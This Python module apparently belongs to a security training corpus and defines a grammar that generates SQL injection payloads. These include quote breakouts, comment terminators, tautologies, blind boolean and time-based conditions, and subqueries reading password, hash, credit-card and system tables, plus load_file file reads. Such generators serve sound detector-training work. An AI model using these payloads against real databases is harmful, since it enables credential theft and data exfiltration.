"""What all SQL injection grammars share: ways out of a literal, conditions, dialects."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.style import (
    keyword_case,
    respace_parentheses,
    sometimes_percent,
    sql_blanks,
    swap_words,
)

POSTS = (keyword_case, respace_parentheses, sql_blanks, swap_words, sometimes_percent)

SQL = Grammar(
    r"""
quote:
  8×'
  3×"
  `
  \'
  %'
  %"
  ’
  '''
  %27
  ''
cl:
  10×‹e›
  3×)
  2×))
  )))
  ]
  )]
  }
out:
  4×‹pre›
  6×‹pre›‹quote›
  3×‹pre›‹quote›)
  ‹pre›‹quote›‹cl›
  2×‹pre›)
  ‹pre›))
  -‹n›‹quote›‹cl›
  -‹n›‹cl›
  ‹quote›
  0
  null
outq:
  6×‹pre›‹quote›‹cl›
  -‹n›‹quote›‹cl›
s:
  8×‹sp›
  +
  /**/
cm:
  5×--‹sp›
  3×-- -
  3×--
  2×-- ‹az4›
  3×#
  2×--+
  --+-
  /*
  ;--
  ; --
  ;#
  ;%00
  %00
  %23
  --%20
  -- -‹az4›
  //
  –-
  `
  -- '
  ;
  #‹az4›
  --‹nl›
end:
  6×‹cm›
  2×‹e›
  ‹sp›and '‹x=az4›'='‹$x›
  ‹sp›or '‹x=az4›' like '‹$x›
  ‹sp›AND ('‹x=az4›'='‹$x›
  ‹sp›AND (('‹x=az4›' LIKE '‹$x›
  ‹sp›AND ((("‹x=az4›"="‹$x›
  ‹sp›AND "‹x=az4›" LIKE "‹$x›
  ‹sp›AND ‹x=n›=‹$x›
  ‹sp›and '%'='
  ‹sp›and ("%"="
  ‹sp›AND ('%'='
  ||'
  +'
  ,'‹#1-9›
  ‹sp›or '
op = OR¦AND¦or¦and¦||¦&&¦XOR¦or not¦and not¦OR NOT¦HAVING¦where¦|¦&¦DIV¦RLIKE¦like
junc:
  ‹sp›‹op›‹sp›
  ‹sp›‹op›‹sp›
  ‹sp›OR‹sp›
  ‹sp›AND‹sp›
  ‹op›
  /**/‹op›/**/
  ‹sp›‹op›(
  %20‹op›%20
cmpop = =¦=¦=¦<¦>¦<=¦>=¦<>¦!=¦ like ¦ LIKE ¦ = ¦ > ¦ < ¦<=>¦ is ¦ regexp ¦ RLIKE ¦ != ¦ <>¦in
lit:
  3×‹n›
  2×'‹az4›'
  '‹c›'
  "‹c›"
  0x‹hextext›
  ‹#0-9›
  ''
  '‹word›'
  true
  false
  null
  ‹d1›e‹#0-3›
  ‹d1›.‹d1›
  (‹n›)
  ~0
  !1
  @@version
  pi()
  user()
  char(‹#65-122›)
  chr(‹#65-122›)
  version()
  ‹d1›-‹d1›
cond:
  6×‹x=n›=‹$x›
  4×‹d1›=‹d1›
  3×1=1
  2×1=2
  '‹x=az›'='‹$x›'
  '‹x=az›'='‹$x›
  "‹x=az›"="‹$x›
  '1'='1
  ‹lit›‹cmpop›‹lit›
  ‹n›‹cmpop›‹n›
  ‹n› between ‹n› and ‹n›
  ‹n› NOT BETWEEN 0 AND ‹n›
  ‹d1› in (‹d1›,‹d1›,‹d1›)
  '‹word›' in ('‹word›')
  exists(select ‹col› from ‹table›)
  exists (select * from ‹table›)
  (select count(*) from ‹table›)‹> ¦>=¦=¦<›‹#0-20›
  (select ‹col› from ‹table› limit 0,1)='‹az›'
  ‹strfn›((‹scalar›),‹#1-30›,1)‹=¦>¦<¦<>› '‹c›'
  ascii(‹strfn›((‹scalar›),‹#1-30›,1))‹>¦<¦=›‹#32-127›
  ord(mid((‹scalar›),‹#1-30›,1))>‹#32-127›
  unicode(substring((‹scalar›),‹#1-30›,1))>‹#32-127›
  length(‹col›)‹>¦=¦<›‹#1-40›
  length((‹scalar›))=‹#1-40›
  len(‹col›)>‹#0-40›
  ‹strfn›(‹version¦user¦database›(),1,1)=‹d1›
  ‹col› is ‹null¦not null›
  ‹col› like '%‹c›%'
  ‹col› like '‹c›%
  not ‹n›=‹n›
  not false
  true
  1
  (‹n›)=(‹n›)
  row(1,1)>(select count(*),concat(‹fn›,floor(rand()*2))x from ‹table› group by x)
  char_length(‹col›)=‹n›
  substr(‹col›,‹d1›,1) regexp '[‹c›-z]'
  ‹x=n› rlike ‹$x›
  ‹n› xor ‹n›
  '‹c›'<>'‹c›'
  ‹x=n›*‹d1›=‹$x›*‹d1›
  case when ‹n›=‹n› then 1 else 0 end
  (case when (‹n›=‹n›) then ‹n› else ‹n› end)=‹n›
  elt(‹n›=‹n›,‹n›)
  make_set(‹n›=‹n›,‹n›)
  iif(‹n›=‹n›,1,1/0)
  if(‹n›=‹n›,1,0)
  nullif(1,1) is null
  ‹scalar› is not null
  sleep(‹d1›)
  @@version like '%‹d1›%'
strfn = substring¦substr¦mid¦SUBSTRING¦left¦right¦lpad
table = users¦user¦admin¦members¦accounts¦customers¦login¦tbl_user¦wp_users¦mysql.user¦information_schema.tables¦information_schema.columns¦INFORMATION_SCHEMA.SCHEMATA¦information_schema.processlist¦INFORMATION_SCHEMA.CHARACTER_SETS¦information_schema.user_privileges¦sysobjects¦master..sysdatabases¦sys.tables¦sys.databases¦sysusers¦master.dbo.sysprocesses¦sysibm.systables¦sysibm.sysdummy1¦dual¦all_tables¦all_users¦user_tables¦v$version¦sys.user$¦all_tab_columns¦pg_user¦pg_shadow¦pg_catalog.pg_tables¦pg_class¦pg_database¦sqlite_master¦sqlite_schema¦MSysObjects¦MSysAccessObjects¦rdb$relations¦rdb$database¦syscat.tables¦systables¦sysmaster:systables¦domain.tables¦system.tables¦system.users¦M_TABLES¦SYS.USERS¦information_schema.system_users¦orders¦products¦config¦admin_users¦jos_users¦credentials¦employees¦phpbb_users¦xoops_users¦usr¦content¦news¦clients¦payment¦cards¦performance_schema.users¦mysql.db¦sys.schema_table_statistics¦mysql.innodb_table_stats
col = user¦username¦password¦pass¦passwd¦email¦id¦name¦login¦table_name¦column_name¦schema_name¦user_login¦user_pass¦admin_password¦pwd¦uid¦userid¦banner¦usename¦sql¦tbl_name¦datname¦authentication_string¦token¦secret¦cc_number¦grantee¦host¦hash¦salt¦group_concat(table_name)¦count(*)¦tablename¦rowid¦passhash¦credit_card¦session_id¦api_key
fn = version()¦user()¦database()¦@@version¦current_user¦current_user()¦@@datadir¦@@hostname¦system_user()¦session_user()¦db_name()¦user_name()¦schema()¦current_database()¦sqlite_version()¦current_setting('data_directory')¦sys_context('userenv','current_user')¦@@servername¦@@basedir¦@@version_compile_os¦last_insert_id()¦connection_id()¦now()¦rand()¦host_name()¦is_srvrolemember('sysadmin')¦uuid()¦@@global.version¦USER_NAME(1)¦current_date¦getdate()¦inet_server_addr()¦currentUser()¦hostName()
scalar:
  2×select ‹fn›
  3×select ‹col› from ‹table› limit ‹#0-9›,1
  select ‹col› from ‹table› limit 1 offset ‹#0-20›
  select ‹col› from ‹table› where ‹col›='‹user›'
  select top 1 ‹col› from ‹table›
  select top 1 ‹col› from ‹table› where ‹col› not in ('‹az›')
  select distinct(‹col›) from (select distinct(‹col›),rownum as limit from ‹table›) where limit=‹#1-9›
  select ‹col› from ‹table› where rownum=1
  select ‹group_concat¦GROUP_CONCAT›(‹col›) from ‹table›
  select ‹group_concat¦concat›(‹col›,0x3a,‹col›) from ‹table›
  select string_agg(‹col›,',') from ‹table›
  select listagg(‹col›,',') within group (order by ‹col›) from ‹table›
  select cast(‹fn› as char)
  select concat(‹fn›,0x3a,‹fn›)
  select load_file('‹u_file›')
  select table_name from information_schema.tables where table_schema=‹database()¦0x6d7973716c¦schema()›
  select (case when (‹n›=‹n›) then 1 else 0 end)
  select (elt(‹x=n›=‹$x›,1))
  select count(*) from ‹table›
  select ‹col› from ‹table› order by ‹col› desc fetch first 1 rows only
  select first 1 ‹col› from ‹table›
  select md5(‹big›)
  select sql from sqlite_master where type='table'
""",
    PARTS,
)
